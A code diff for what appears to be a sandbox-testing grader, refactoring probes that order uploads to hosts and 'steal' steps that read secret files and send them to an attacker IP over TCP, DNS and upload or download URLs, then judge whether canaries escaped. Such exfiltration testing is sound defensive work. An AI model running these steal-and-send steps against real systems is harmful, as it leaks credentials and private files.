@@ -8,6 +8,8 @@ Pure.
 
 from __future__ import annotations
 
+from dataclasses import replace
+
 from grader.core.access import Access
 from grader.core.channels import channels
 from grader.core.evidence import (
@@ -26,6 +28,7 @@ from grader.core.evidence import (
 from grader.core.probes.record import OrderContext, Prediction, Probe, Step, allowed_names, web_url
 from grader.core.world import World
 from grader.protocol.common import TCP_SINK_PORT
+from grader.protocol.wire import HttpStep, StealStep, TcpTarget
 
 __all__ = ["STEAL_SECRETS", "UPLOAD"]
 
@@ -48,8 +51,7 @@ def _upload_orders(p: Probe, ctx: OrderContext) -> list[Step]:
     m = ctx.markers
     hosts = list(dict.fromkeys([*ctx.hosts, *allowed_names(ctx, "up"), m.fresh_host("up")]))
     # once more after a timeout: an upload lost to a busy machine proves nothing either way
-    return [{"op": "http", "method": "POST", "url": web_url(ctx, h, m.upload_path), "body": m.upload_body, "retries": 1}
-            for h in hosts]
+    return [HttpStep(method="POST", url=web_url(ctx, h, m.upload_path), body=m.upload_body, retries=1) for h in hosts]
 
 
 def _upload_predict(p: Probe, access: Access) -> Prediction:
@@ -64,7 +66,7 @@ def _upload_judge(p: Probe, ev: Evidence, world: World) -> Verdict:
     hits = http_hits(ev, lambda r: body in r.body and attacker_reads(world, r.host))
     if hits:
         hosts = sorted({r.host for r in hits})
-        return "succeeded", "Uploads got through to " + ", ".join(hosts) + ".", tuple(f"{r.host} stored {r.method} {r.path} ({r.body_len} bytes)" for r in hits[:4])
+        return Verdict("succeeded", "Uploads got through to " + ", ".join(hosts) + ".", tuple(f"{r.host} stored {r.method} {r.path} ({r.body_len} bytes)" for r in hits[:4]))
     return net_blocked(p.id, ev, "Every upload")
 
 
@@ -89,25 +91,25 @@ def _steal_orders(p: Probe, ctx: OrderContext) -> list[Step]:
     allowed name of each kind (``record.allowed_names``) is still asked, and a canary that arrives anywhere is
     still seen (``canary_sightings`` looks for each file's own)."""
     m = ctx.markers
-    steps: list[Step] = []
+    steps: list[StealStep] = []
     for i, path in enumerate(ctx.loot):
         label = f"s{i}"
         tag = m.steal_tag(label)
-        steps.append({
-            "op": "steal", "path": ctx.rebase(path),
-            "tcp": {"host": ctx.attacker_ip, "port": ctx.raw.at(TCP_SINK_PORT), "prefix": tag + "\n"},
-            "dns_suffix": m.steal_dns_suffix(label), "urls": [], "get_urls": [], "also": [],
-        })
+        steps.append(StealStep(
+            path=ctx.rebase(path), tcp=TcpTarget(host=ctx.attacker_ip, port=ctx.raw.at(TCP_SINK_PORT), prefix=tag + "\n"),
+            dns_suffix=m.steal_dns_suffix(label), urls=(), get_urls=(), also=(),
+        ))
     if steps:
         web_tag = m.steal_tag(WEB_LABEL)
         web_hosts = dict.fromkeys([*ctx.hosts, *allowed_names(ctx, WEB_LABEL), m.fresh_host(WEB_LABEL)])
-        steps[0].update(
-            urls=[web_url(ctx, h, f"/upload/{web_tag}") for h in web_hosts],
+        steps[0] = replace(
+            steps[0],
+            urls=tuple(web_url(ctx, h, f"/upload/{web_tag}") for h in web_hosts),
             # a download whose URL ends in what was read: where the attacker reads request URLs, that is a way out
-            get_urls=[web_url(ctx, h, f"/npm/{web_tag}/") for h in ctx.urls],
-            also=[ctx.rebase(q) for q in ctx.loot[1:]],
+            get_urls=tuple(web_url(ctx, h, f"/npm/{web_tag}/") for h in ctx.urls),
+            also=tuple(ctx.rebase(q) for q in ctx.loot[1:]),
         )
-    return steps
+    return list(steps)
 
 
 def _steal_predict(p: Probe, access: Access) -> Prediction:
@@ -138,21 +140,21 @@ def _steal_predict(p: Probe, access: Access) -> Prediction:
 def _steal_judge(p: Probe, ev: Evidence, world: World) -> Verdict:
     seen = canary_sightings(ev, world, [s.path for s in world.loot])
     if seen:
-        return "succeeded", f"{len(seen)} secret(s) left the sandbox.", tuple(seen[:6])
+        return Verdict("succeeded", f"{len(seen)} secret(s) left the sandbox.", tuple(seen[:6]))
     reads = [r for r in attempts(ev, p.id) if r.step == "read"]
     if not reads:
-        return "error", "The probe did not run.", ()
+        return Verdict("error", "The probe did not run.", ())
     readable = [r.target for r in reads if r.ok and r.data]
     if readable and ev.network != "none" and ev.infra_problem:
-        return "error", f"Cannot tell: {ev.infra_problem}.", ()
+        return Verdict("error", f"Cannot tell: {ev.infra_problem}.", ())
     late = timed_out(ev, p.id)
     if readable and late:
-        return "error", f"Cannot tell: a request carrying a secret timed out before any answer ({late[0]}). Rerun.", ()
+        return Verdict("error", f"Cannot tell: a request carrying a secret timed out before any answer ({late[0]}). Rerun.", ())
     if readable and ev.network == "open":
         return silent_open_network(ev, p.id, "Every secret read")
     if not readable:
-        return "blocked", "No secret could be read.", (f"every secret read failed ({failures(ev, p.id, 1)}); no canary arrived anywhere",)
-    return "blocked", "Secrets were read but none got out.", (f"{len(readable)} secret(s) read, but no canary reached the attacker's server, nameserver or any upload host",)
+        return Verdict("blocked", "No secret could be read.", (f"every secret read failed ({failures(ev, p.id, 1)}); no canary arrived anywhere",))
+    return Verdict("blocked", "Secrets were read but none got out.", (f"{len(readable)} secret(s) read, but no canary reached the attacker's server, nameserver or any upload host",))
 
 
 def _steal_fix(p: Probe, access: Access) -> str:
